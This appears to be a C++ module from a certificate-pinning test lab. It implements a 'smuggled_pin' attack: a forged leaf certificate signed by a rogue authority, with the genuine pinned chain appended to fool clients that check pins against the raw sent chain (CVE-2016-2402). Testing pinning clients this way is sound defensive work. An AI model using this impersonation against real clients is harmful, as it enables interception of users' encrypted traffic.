// A rogue chain with the genuine, pinned chain appended: a client that looks for its pin in what was sent
// finds it.
#include "attacks/registry.h"

namespace pinlab::attacks {
namespace {

class SmuggledPin : public Impersonator {
  public:
    explicit SmuggledPin(const Arguments& arguments)
        : authority_(arguments["authority"]), key_(arguments["key"]) {}

  private:
    pki::Identity lie(const std::vector<pki::Certificate>& chain, const Forge& forge) const override {
        pki::Identity shown = forge.copy(chain.front(), authority_, key_);
        // RFC 8446 4.4.2 lets a server send extra certificates: path building must leave them aside, and so
        // must pins.
        shown.chain.insert(shown.chain.end(), chain.begin(), chain.end());
        return shown;
    }

    std::string authority_;
    std::string key_;
};

PINLAB_ATTACK(
    SmuggledPin,
    {.name = "smuggled_pin",
     .summary = "a rogue chain with the genuine pinned certificates appended, which no signature connects",
     .source = "CVE-2016-2402; RFC 7469 2.6: pins are matched on the validated chain",
     .parameters = {{"authority", "rogue", "the authority that signs the copy"},
                    {"key", "attacker", "the key of the copy"}}});

}  // namespace
}  // namespace pinlab::attacks
